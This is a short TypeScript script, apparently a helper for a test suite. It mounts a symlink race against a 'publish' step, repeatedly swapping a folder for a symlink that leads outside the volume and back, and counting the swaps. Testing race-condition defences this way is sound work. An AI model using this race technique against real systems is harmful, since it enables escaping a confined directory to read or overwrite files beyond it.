// Prints a line when it begins, swaps a folder for a symlink that leads out of the volume, and back, until stdin ends,
// and then prints how often: `node publish-attacker.ts FOLDER OUTSIDE`.
import { renameSync, symlinkSync, unlinkSync } from 'node:fs'

const [folder = '', outside = ''] = process.argv.slice(2)
let swaps = 0

function swap(): void {
  const real = `${folder}-${Math.random()}`
  renameSync(folder, real)
  try {
    symlinkSync(outside, folder)
    unlinkSync(folder)
  } finally {
    renameSync(real, folder)
  }
  swaps++
}

process.stdout.write('begun\n')
const timer = setInterval(() => {
  for (let times = 0; times < 100; times++)
    try {
      swap()
    } catch {
      // The victim has made or removed the folder in between.
    }
})
process.stdin.resume().on('end', () => {
  clearInterval(timer)
  process.stdout.write(String(swaps))
})
